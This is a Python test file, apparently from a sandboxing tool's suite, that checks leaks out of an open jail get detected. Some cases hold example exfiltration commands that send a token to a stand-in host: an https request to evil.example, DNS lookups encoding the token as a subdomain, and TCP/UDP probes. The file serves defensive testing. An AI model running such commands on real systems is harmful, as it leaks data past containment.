# SPDX-License-Identifier: GPL-2.0-or-later
"""The tests' own test: what gets out of an open jail is noticed, whichever way it takes."""

from lib import zone
from lib.case import Cases, Fail, expect, stays_in
from lib.commands import curl, dig, probe, python

CASES = Cases()

OPEN = ["--allow", "any:*", "--allow", "udp/any"]
LATER = python("import socket, sys; socket.create_connection(('203.0.113.66', 999), 2)")

for what, command in (
    ("TCP", probe("tcp", zone.v4(66), 999, "{tok}")),
    ("TCP, IPv6", probe("tcp", zone.v6(66), 999, "{tok}")),
    ("a connection on which nothing is said", LATER),
    ("UDP", probe("udp", zone.v4(66), 999, "{tok}")),
    ("UDP, IPv6", probe("udp", zone.v6(66), 999, "{tok}")),
    ("https", curl("https://evil.example/{tok}")),
    ("a question", dig("{tok}.evil.example")),
    ("a question over TCP", dig("+tcp", "{tok}.evil.example")),
):
    @CASES.case(f"a leak by {what} is noticed")
    def _leak(t, command=command):
        try:
            stays_in(t, t.jail(*OPEN), command)
        except Fail as e:
            expect("packets left" in str(e), f"for another reason: {e}")
            return
        raise Fail("it was not noticed")
